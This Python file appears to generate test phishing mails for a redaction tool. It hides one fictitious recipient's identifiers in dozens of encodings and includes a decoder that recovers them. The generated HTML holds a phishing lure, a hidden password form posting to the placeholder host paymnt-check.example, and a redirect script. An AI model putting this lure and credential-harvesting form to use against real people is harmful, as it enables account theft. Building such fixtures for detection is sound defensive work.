"""Mails that carry one recipient's marks in every coding in which mails carry them; and a reader that
finds a mark in a text, however it is written there. Nothing here knows how mekiki masks."""

import base64
import binascii
import email.header
import hashlib
import html
import quopri
import random
import re
import urllib.parse

LETTERS = "bcdfghjkmnpqrstvwxz"


class Person:
    """A recipient whose every word occurs nowhere else."""

    def __init__(self, draw):
        word = lambda n: "".join(draw.choice(LETTERS) for _ in range(n))
        self.local = draw.choice((word(9), f"{word(5)}.{word(6)}", f"{word(7)}{draw.randrange(100, 999)}", f"{word(6)}_{word(4)}"))
        self.domain = f"{word(8)}.{draw.choice(('co.jp', 'jp', 'example', 'com', 'ac.jp'))}"
        self.given, self.family = word(7).capitalize(), word(8).capitalize()
        self.kanji = ""
        self.drawn = "".join(draw.choice("鷲鶴鴨鷹鵜鯨鮎鰯") for _ in range(3))
        self.host = f"{word(5)}.{self.domain}"

    @property
    def address(self):
        return f"{self.local}@{self.domain}"

    @property
    def name(self):
        return f"{self.given} {self.family}"

    @property
    def marks(self):
        return [m for m in (self.local, self.domain, self.given + self.family, self.family, self.kanji, self.host.split(".")[0]) if m]

    @property
    def sums(self):
        return [getattr(hashlib, kind)(self.address.encode()).hexdigest() for kind in ("md5", "sha1", "sha256")]


# --- codings: text to text ------------------------------------------------------------------


def percent(s):
    return "".join(f"%{b:02X}" for b in s.encode())


def half_percent(draw):
    return lambda s: "".join(percent(c) if draw.random() < .4 else c for c in s)


def twice(s):
    return percent(s).replace("%", "%25")


def b64(s):
    return base64.b64encode(s.encode()).decode()


def b64_url(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def b64_behind(n):
    return lambda s: b64("xyz"[:n] + s + ";tail")


def codings(draw):
    return {
        "plain": lambda s: s,
        "upper": str.upper,
        "percent": percent,
        "percent, signs alone": lambda s: urllib.parse.quote(s, safe="").replace(".", "%2E"),
        "percent, here and there": half_percent(draw),
        "percent twice": twice,
        "base64": b64,
        "base64 for URLs": b64_url,
        "base64 at 1": b64_behind(1),
        "base64 at 2": b64_behind(2),
        "base64 twice": lambda s: b64(b64(s)),
        "base64 of percent": lambda s: b64(percent(s)),
        "base64, padding escaped": lambda s: urllib.parse.quote(b64(s), safe=""),
        "hex": lambda s: s.encode().hex(),
        "hex, upper": lambda s: s.encode().hex().upper(),
        "base32": lambda s: base64.b32encode(s.encode()).decode().rstrip("=").lower(),
        "reversed": lambda s: s[::-1],
        "rot13": lambda s: s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")),
        "md5": lambda s: hashlib.md5(s.encode()).hexdigest(),
        "sha1": lambda s: hashlib.sha1(s.encode()).hexdigest(),
        "sha256": lambda s: hashlib.sha256(s.encode()).hexdigest(),
        "joined by =": lambda s: s.replace("@", "="),
        "joined by -": lambda s: s.replace("@", "-").replace(".", "-"),
        "joined by _": lambda s: s.replace("@", "_"),
        "quoted-printable": lambda s: "".join(f"={b:02X}" for b in s.encode()),
        "entities": lambda s: "".join(f"&#{ord(c)};" for c in s),
        "entities, hex": lambda s: "".join(f"&#x{ord(c):x};" for c in s),
        "entities, signs": lambda s: s.replace("@", "&commat;").replace(".", "&period;"),
        "script": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
        "script, bytes": lambda s: "".join(f"\\x{b:02x}" for b in s.encode()),
        "defanged": lambda s: s.replace("@", "[@]").replace(".", "[.]"),
        "defanged, words": lambda s: s.replace("@", "[at]").replace(".", "(dot)"),
        "full width": lambda s: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s),
        "invisible": lambda s: "\u200b".join(s),
        "soft hyphens": lambda s: "\u00ad".join(s),
        "UTF-16 in base64": lambda s: base64.b64encode(s.encode("utf-16-le")).decode(),
    }


def word(s, how, charset="utf-8"):
    """An encoded word (RFC 2047)."""
    raw = s.encode(charset)
    if how == "b":
        return f"=?{charset}?B?{base64.b64encode(raw).decode()}?="
    return f"=?{charset}?Q?{''.join(f'={b:02X}' for b in raw)}?="


# --- a mail ----------------------------------------------------------------------------------


def marked_mail(n):
    """(bytes, Person): a phish with the marks of one recipient wherever a mail has room for them."""
    draw = random.Random(n)
    person = Person(draw)
    kind = n % 4
    if kind == 2:
        person.kanji = person.drawn
    how = codings(draw)
    a, local, domain = person.address, person.local, person.domain
    names = list(how)
    draw.shuffle(names)
    site = "https://login.paymnt-check.example"
    links = [f"{site}/a/{how[k](a)}/z?u={how[names[i - 1]](a)}&lang=en#{how[k](local)}" for i, k in enumerate(names)
             if not re.search(r"[\s\\&\u0080-\uffff]", how[k](a)) and not re.search(r"[\s\\&\u0080-\uffff]", how[names[i - 1]](a))]
    links += [f"http://{local}.{domain}.paymnt-check.example/", f"http://{domain.replace('.', '-')}.paymnt-check.example/{domain}",
              f"http://{local}@paymnt-check.example/x", f"{site}/?id=x7Kq{b64_url(a)}", f"{site}/?{a}", f"mailto:help@paymnt-check.example?subject={percent(a)}"]
    said = " ".join(f"{k}: {f(a)} ." for k, f in how.items())
    body = (f"Dear {person.name} ({local}),\n\nthe mailbox {a} at {domain} is full. Your password expires within 24 hours.\n{said}\n"
            f"{person.kanji or 'お客'}様 {person.family} {person.given}\n" + "\n".join(links[:12]) + "\n")
    page = (f"<html><body><p title=\"{a}\">Dear {html.escape(person.name)}, {how['entities'](a)} {how['entities, hex'](local)}</p>"
            f"<div style=\"display:none\">{local} hidden for {domain}</div>"
            + "".join(f"<a href=\"{html.escape(x)}\">{html.escape(x if i % 2 else 'Sign in, ' + local)}</a><br>\n" for i, x in enumerate(links))
            + f"<form action=\"{site}/post?e={percent(a)}\"><input type=hidden name=email value=\"{a}\"><input type=password name=p></form>"
            f"<script>var e='{how['script'](a)}';location='{site}/'+atob('{b64(a)}')</script>{html.escape(said)}</body></html>\n")
    encode = {0: ("8bit", lambda s: s.encode()), 1: ("base64", lambda s: base64.encodebytes(s.encode())),
              2: ("quoted-printable", lambda s: quopri.encodestring(s.encode())), 3: ("8bit", lambda s: s.encode())}[kind]
    to = [f"{person.name} <{a}>", f'"{person.name}" <{a}>', f"{word(person.kanji, 'b')} <{a}>", f"{a} ({person.name})"][kind]
    subject = [f"{local}: your password expires", word(f"{person.name}: notice", "b"), word(f"Mail for {a}", "q"), f"Re: {how['defanged'](a)}"][kind]
    sender = a if n % 5 == 0 else "service@paymnt-check.example"
    head = f"""Return-Path: <bounce-{local}={domain}@paymnt-check.example>
Delivered-To: {a}
X-Original-To: {a.upper() if n % 3 == 0 else a}
Received: from {person.host} ({person.host} [10.11.12.{n % 200 + 1}])
\tby store.{domain} (Postfix) with LMTP id 4ABCD{n:05}
\tfor <{a}>; Tue, 7 Mar 2023 10:00:03 +0900 (JST)
Received: from mail.paymnt-check.example (unknown [198.51.100.7])
\tby {person.host} (Postfix) with ESMTPS id 1A2B{n:05}
\tfor <{a}>; Tue, 7 Mar 2023 10:00:02 +0900 (JST)
Authentication-Results: {person.host}; spf=pass smtp.mailfrom=bounce-{local}={domain}@paymnt-check.example
Date: Tue, 07 Mar 2023 10:00:00 +0900
From: {domain} support <{sender}>
To: {to}
Cc: {person.family} {person.given} <{local}+news@{domain}>
Reply-To: {local}.{domain}@paymnt-check.example
Subject: {subject}
Message-ID: <{b64_url(a)}.{n}@{domain}>
List-Unsubscribe: <{site}/u/{percent(a)}>, <mailto:off-{local}={domain}@paymnt-check.example>
X-Mailer: kit for {a}
Feedback-ID: {a.encode().hex()}:x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="zz"
"""
    out = head.encode() + b"\n"
    for type_, text in (("text/plain", body), ("text/html", page)):
        out += f"--zz\nContent-Type: {type_}; charset=utf-8\nContent-Transfer-Encoding: {encode[0]}\n\n".encode() + encode[1](text) + b"\n"
    out += (f"--zz\nContent-Type: text/html; name=\"{local}.html\"\nContent-Disposition: attachment; filename=\"invoice {a}.html\"\n"
            f"Content-Transfer-Encoding: base64\n\n").encode() + base64.encodebytes(page[:3000].encode()) + b"\n--zz--\n"
    return out, person


# --- finding marks ----------------------------------------------------------------------------


def undo(text):
    """Other readings of a text."""
    yield re.sub(r"[\u200b-\u200f\u00ad\u2060\ufeff\0]", "", text)
    yield re.sub(r"\\u\{[0-9A-Fa-f]+\}", "", text)
    yield "".join(chr(ord(c) - 0xFEE0) if "\uff01" <= c <= "\uff5e" else c for c in text)
    if "%" in text:
        yield urllib.parse.unquote(text, errors="replace")
    if "&" in text:
        yield html.unescape(text)
    if "\\" in text:
        yield re.sub(r"\\+u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), re.sub(r"\\+x([0-9a-fA-F]{2})", lambda m: chr(int(m[1], 16)), text))
    if "=" in text:
        yield re.sub(r"=([0-9A-Fa-f]{2})", lambda m: chr(int(m[1], 16)), text.replace("=\n", ""))
    yield re.sub(r"[\[({](\.|dot)[\])}]", ".", re.sub(r"[\[({](@|at)[\])}]", "@", text, flags=re.I), flags=re.I)
    if "=?" in text:
        try:
            yield str(email.header.make_header(email.header.decode_header(text.replace("\n", " "))))
        except (ValueError, LookupError, binascii.Error, email.errors.HeaderParseError):
            pass


def said(raw):
    """What bytes may say: of a wrong alignment next to nothing."""
    text = raw.decode("utf-8", "ignore").replace("\0", "")
    return [x for x in re.findall(r"[^\0-\x1f\x7f]{3,}", text) if len(x) > 3 or not x.isascii()]


def runs(text):
    """What base64, base32 and hexadecimal runs of it say, at every alignment."""
    for run in set(re.findall(r"[A-Za-z0-9+/_\-]{8,}", text)):
        run = run.replace("-", "+").replace("_", "/")
        for skip in range(4):
            part = run[skip:]
            part = part[: len(part) // 4 * 4] if len(part) % 4 == 1 else part + "=" * (-len(part) % 4)
            try:
                yield from said(base64.b64decode(part))
            except binascii.Error:
                pass
    for run in set(re.findall(r"[0-9A-Fa-f]{8,}", text)):
        for skip in range(2):
            part = run[skip:]
            yield from said(bytes.fromhex(part[: len(part) // 2 * 2]))
    for run in set(re.findall(r"[A-Za-z2-7]{12,}", text)):
        for skip in range(8):
            part = run[skip:].upper()
            part = part[: len(part) - len(part) % 8]
            if part:
                yield from said(base64.b32decode(part))


def readings(text, depth=3):
    seen, now = {text}, [text]
    for _ in range(depth):
        following = []
        for t in now:
            for other in undo(t):
                if other not in seen:
                    seen.add(other)
                    following.append(other)
        now = following
    return seen


def marks_in(text, person):
    """The marks of `person` that stand in `text` in any coding, each with some of what is around it."""
    folded = re.sub(r"\n[ \t]*", "", text)
    # A text repeats itself: what has been read is not read again.
    pieces = "\n".join(dict.fromkeys(re.findall(r'[^"\n\s]+(?: [^"\n\s]+){0,8}', text)))
    level = {text, folded} | readings(pieces) | (readings(folded, 1) if folded != text else set())
    for _ in range(2):
        deeper = "\n".join({r for t in level for r in runs(t)})
        level = level | readings(deeper, 2)
    marks = [m.lower() for m in person.marks]
    marks += [m[::-1] for m in marks] + [m.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")) for m in marks if m.isascii()]
    marks += person.sums + [m.replace(".", "-") for m in marks if "." in m]
    found = set()
    for t in level:
        low = t.lower()
        for mark in marks:
            at = low.find(mark)
            if at >= 0:
                found.add((mark, t[max(0, at - 30): at + len(mark) + 20]))
    return sorted(found)
